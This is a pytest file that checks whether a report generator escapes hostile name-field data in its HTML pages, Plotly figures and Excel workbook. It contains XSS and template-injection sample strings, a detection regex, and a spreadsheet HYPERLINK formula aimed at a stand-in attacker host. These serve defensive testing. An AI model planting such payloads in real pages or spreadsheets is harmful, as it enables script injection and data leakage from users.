"""Nothing from data is live in a rendered report (no browser needed; the browser check in
test_browser.py opens the same pages).

The demo park is rendered once per session with a payload in every name field (tests/conftest.py:
markup, script, a link, a style that fetches a URL, spreadsheet formulas, a template
expression), in English and Chinese. Every page (and the month as one file) declares a
Content-Security-Policy that forbids requests, and loads nothing but the files beside it in the
month folder (plotly.js, the style sheet); no figure carries live markup from data; no cell of
tables.xlsx is a formula; the payloads are shown, as text.
"""
from __future__ import annotations

import html
import json
import re
from pathlib import Path

import pytest
from openpyxl import load_workbook

from conftest import FORMULAS
from ecolib.presentation.escape import CONTENT_SECURITY_POLICY

#: Markup from data that would be live: a tag of ours never carries these.
LIVE = re.compile(r"<\s*(script|img|a|span|svg|iframe)\b[^>]*(evil\.test|onerror|alert\()", re.I)


def _pages(report) -> list[Path]:
    return sorted(report.folder.glob("*.html")) + [report.folder.parent / "index.html"]


def _figures(page: str) -> list[tuple[list, dict]]:
    """(data, layout) of every ``Plotly.newPlot(id, data, layout, config)`` call in a page."""
    decoder = json.JSONDecoder()
    found = []
    for match in re.finditer(r"Plotly\.newPlot\(\s*", page):
        pos = match.end()
        args = []
        for _ in range(3):
            value, pos = decoder.raw_decode(page, pos)
            args.append(value)
            pos = re.compile(r"\s*,\s*").match(page, pos).end()
        found.append((args[1], args[2]))
    return found


def _strings(value) -> list[str]:
    if isinstance(value, str):
        return [value]
    if isinstance(value, dict):
        return [s for v in value.values() for s in _strings(v)]
    if isinstance(value, list):
        return [s for v in value for s in _strings(v)]
    return []


def _single_file(report, tmp_path: Path) -> Path:
    """The month of ``report`` as one file (what ``--single-file`` writes), built from its folder."""
    from ecolib.report import single_file_html

    path = tmp_path / f"{report.summary['month']}.html"
    path.write_text(single_file_html(report.folder, park=report.summary["workspace"]), encoding="utf-8")
    return path


@pytest.mark.parametrize("lang", ["en", "zh"])
def test_every_page_forbids_requests_and_carries_no_live_markup(hostile_reports, lang, tmp_path):
    report = hostile_reports[lang]
    pages = _pages(report) + [_single_file(report, tmp_path)]
    assert len(pages) >= 9
    for path in pages:
        text = path.read_text(encoding="utf-8")
        head = text[: text.index("</head>")]
        policies = [html.unescape(m) for tag in re.findall(r"<meta\b[^>]*>", head)
                    if re.search(r'http-equiv="Content-Security-Policy"', tag, re.I)
                    for m in re.findall(r'content="([^"]*)"', tag)]
        assert policies == [CONTENT_SECURITY_POLICY], f"{path.name}: no Content-Security-Policy"
        assert head.index("Content-Security-Policy") < (head.index("<script") if "<script" in head else len(head))
        markup = re.sub(r"<script\b.*?</script>", "", text, flags=re.S)   # figures: the next test
        assert not LIVE.search(markup), f"{path.name}: live markup from data: {LIVE.search(markup).group(0)}"
        out = re.search(r"""<[a-z][^<>]*\b(src|href)\s*=\s*["']?\s*(https?:)?//[^<>]*>""", markup, re.I)
        assert not out, f"{path.name}: a link out of the page: {out.group(0) if out else ''}"
        loads = re.findall(r"""<(?:script|link)\b[^>]*\b(?:src|href)\s*=\s*["']?([^"'\s>]+)""", head, re.I)
        assert all("/" not in f and ":" not in f and (report.folder / f).is_file() for f in loads), \
            f"{path.name}: loads {loads}: only files beside it in the month folder"


@pytest.mark.parametrize("lang", ["en", "zh"])
def test_the_single_file_carries_no_markup_from_data_in_figures(hostile_reports, lang, tmp_path):
    text = _single_file(hostile_reports[lang], tmp_path).read_text(encoding="utf-8")
    figures = _figures(text)
    assert len(figures) >= 20
    for data, layout in figures:
        for s in _strings(data) + _strings(layout):
            assert not LIVE.search(s), f"single file: live markup in a figure: {s[:160]!r}"


@pytest.mark.parametrize("lang", ["en", "zh"])
def test_no_figure_carries_markup_from_data(hostile_reports, lang):
    report = hostile_reports[lang]
    figures = 0
    for path in sorted(report.folder.glob("*.html")):
        for data, layout in _figures(path.read_text(encoding="utf-8")):
            figures += 1
            for s in _strings(data) + _strings(layout):
                assert not LIVE.search(s), f"{path.name}: live markup in a figure: {s[:160]!r}"
    assert figures >= 20


def test_payloads_are_shown_as_text(hostile_reports):
    page = (hostile_reports["en"].folder / "00_overview.html").read_text(encoding="utf-8")
    assert "&lt;script&gt;alert(1)&lt;/script&gt; " in page and "&lt;img src=x onerror=alert(2)&gt; " in page
    assert "{{7*7}}" in page.replace("&#123;", "{")
    figures = _figures((hostile_reports["en"].folder / "01_value_stream.html").read_text(encoding="utf-8"))
    labels = [s for data, layout in figures for s in _strings(data)]
    assert any("&lt;a href=" in s for s in labels)          # escaped, so plotly shows it as text


@pytest.mark.parametrize("lang", ["en", "zh"])
def test_tables_xlsx_holds_no_formula_and_valid_sheet_names(hostile_reports, lang):
    book = load_workbook(hostile_reports[lang].folder / "tables.xlsx")
    texts, formulas = [], []
    for sheet in book.worksheets:
        title = sheet.title
        assert 1 <= len(title) <= 31 and not re.search(r"[\[\]:*?/\\]", title), title
        assert not title.startswith("'") and not title.endswith("'"), title
        for row in sheet.iter_rows():
            for cell in row:
                if cell.data_type == "f":
                    formulas.append(f"{title}!{cell.coordinate}: {cell.value!r}")
                elif isinstance(cell.value, str):
                    texts.append(cell.value)
    assert formulas == []
    assert len({s.lower() for s in book.sheetnames}) == len(book.sheetnames)
    # the formula payloads reached the workbook, as text: names, the park's name, a rule's action
    assert any(s.startswith('=HYPERLINK("http://evil.test/c"') for s in texts)
    park = FORMULAS[1] if lang == "en" else FORMULAS[2]
    assert any(s.startswith(park) for s in texts)
